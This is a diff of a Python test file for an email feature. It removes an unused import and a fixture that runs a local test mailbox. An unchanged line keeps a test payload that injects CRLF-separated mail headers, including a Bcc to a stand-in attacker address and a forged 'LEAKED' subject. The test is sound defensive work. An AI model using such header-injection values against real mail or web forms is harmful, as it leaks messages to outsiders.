@@ -9,7 +9,6 @@ from __future__ import annotations
 
 import re
 import threading
-from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import timedelta
 from typing import Any
@@ -28,14 +27,6 @@ from tests.servers import Mailbox, free_port
 from tests.staffing import StaffDirectory, directory_of
 
 INJECTION = "Help me\r\nBcc: attacker@evil.example\r\nSubject: LEAKED\r\n\r\nDESCRIPTION-CANARY-91b2"
-
-
-@pytest.fixture
-def mailbox() -> Iterator[Mailbox]:
-    box = Mailbox(port=free_port())
-    box.start()
-    yield box
-    box.stop()
 
 
 @dataclass
